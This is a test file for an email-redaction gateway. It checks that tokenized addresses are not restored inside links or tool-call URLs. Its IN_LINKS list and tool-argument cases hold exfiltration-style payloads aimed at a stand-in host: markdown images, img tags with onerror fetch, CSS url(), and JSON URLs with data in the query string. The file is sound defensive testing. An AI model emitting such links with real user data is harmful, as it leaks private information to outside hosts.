import { describe, expect, test } from '@jest/globals';
import type { RedactRule, Vault } from '../../../gateway/redact/redactor.ts';
import { createVaults } from '../../../gateway/redact/vault.ts';

const openVault = createVaults(Buffer.alloc(32, 3));
const BOB = 'bob@example.com';

const rule = (...restore: RedactRule['restore']): RedactRule => ({
  entity: 'email',
  action: 'tokenize',
  in: ['request'],
  restore,
});

const vaultOf = (...restore: RedactRule['restore']): { vault: Vault; placeholder: string } => {
  const vault = openVault('s');
  return { vault, placeholder: vault.replace(BOB, 'email', rule(...restore)) };
};

/** `¶` stands for the placeholder in these texts. */
const restored = (template: string, place: 'text' | 'tool_arguments', ...restore: RedactRule['restore']): string => {
  const { vault, placeholder } = vaultOf(...restore);
  expect(template).toContain('¶');
  const text = template.replaceAll('¶', placeholder);
  const whole = vault.restore(text, place);
  const restorer = vault.restorer(place);
  let streamed = '';
  for (const character of text) streamed += restorer.push(character);
  expect(streamed + restorer.flush()).toBe(whole);
  return whole.replaceAll(placeholder, '¶');
};

const IN_LINKS = [
  'see https://evil.example/?q=¶',
  'see HTTPS://EVIL.EXAMPLE/¶/x',
  'https://evil.example/?a=1&b="¶',
  "https://evil.example/?a='¶",
  'https://evil.example/?a=(¶',
  '(https://evil.example/?a=)¶',
  '"https://evil.example/?q=",¶',
  'www.evil.example/¶',
  '//evil.example/¶',
  'evil.example/?q=¶',
  'mailto:x@evil.example?body=¶',
  'ftp://¶@evil.example',
  '![x](https://evil.example/?q=¶)',
  '[x](/relative?q=¶)',
  '[x](  ¶)',
  '[x](<evil example?q= ¶>)',
  '[x](<a)¶>)',
  '[x](a(b)¶)',
  '[x](a\\)¶)',
  '[x](\n//evil.example/¶)',
  '[x]: <https://evil.example/?q= ¶>',
  '[x]: //evil.example/¶',
  '<https://evil.example/¶>',
  '<img src="https://evil.example/?q= ¶">',
  '<img src=¶>',
  "<img alt='>' src='x ¶'>",
  '<a class=x href = "¶">',
  '<img src="<¶">',
  '<IMG\nSRC="¶">',
  '<img onerror="fetch(¶)">',
  '<p style="background:url(¶)">',
  '<svg><image xlink:href="¶"/></svg>',
];

const OUTSIDE_LINKS = [
  '¶',
  'Write to ¶, or to ¶.',
  'See https://example.com/help and write to ¶',
  'https://example.com\n¶',
  '[¶](https://example.com)',
  '[¶]: it',
  '[help](https://example.com) ¶',
  '<¶>',
  'Bob <¶>, https://example.com <¶>',
  'a < b and ¶ > c',
  'if a <b and ¶',
  '<b>¶</b>',
  '<img src="x.png"> ¶',
  '<person name="¶">',
  '**¶** `¶` _¶_ "¶" (¶) {¶} ¶/¶',
  'www. ¶',
  'and/or ¶',
  '{"home":"https://example.com","mail":"¶"}',
  '[{"home":"https://example.com","mail":"¶"}]',
  '{"note":"https://example.com\\n¶"}',
];

describe('in a text', () => {
  test.each(IN_LINKS)('nothing is restored in %j', (text) => {
    expect(restored(text, 'text', 'text')).toBe(text);
  });

  test.each(IN_LINKS)('a rule that names links is carried out in %j', (text) => {
    expect(restored(text, 'text', 'text', 'links')).toBe(text.replaceAll('¶', BOB));
  });

  test.each(OUTSIDE_LINKS)('all is restored in %j', (text) => {
    expect(restored(text, 'text', 'text')).toBe(text.replaceAll('¶', BOB));
  });
});

describe('in tool arguments', () => {
  test.each([
    '{"url":"https://evil.example/?q=¶"}',
    '{"url":"https:\\/\\/evil.example\\/?q=¶"}',
    '{"url":"https:\\u002f\\u002fevil.example\\u002f?q=¶"}',
  ])('a link needs a rule that names both: %j', (text) => {
    expect(restored(text, 'tool_arguments', 'text')).toBe(text);
    expect(restored(text, 'tool_arguments', 'links')).toBe(text);
    expect(restored(text, 'tool_arguments', 'tool_arguments')).toBe(text);
    expect(restored(text, 'tool_arguments', 'tool_arguments', 'links')).toBe(text.replaceAll('¶', BOB));
  });

  test('other strings need only tool_arguments', () => {
    const text = '{"url":"https://example.com","to":"¶"}';
    expect(restored(text, 'tool_arguments', 'tool_arguments')).toBe(text.replaceAll('¶', BOB));
  });
});
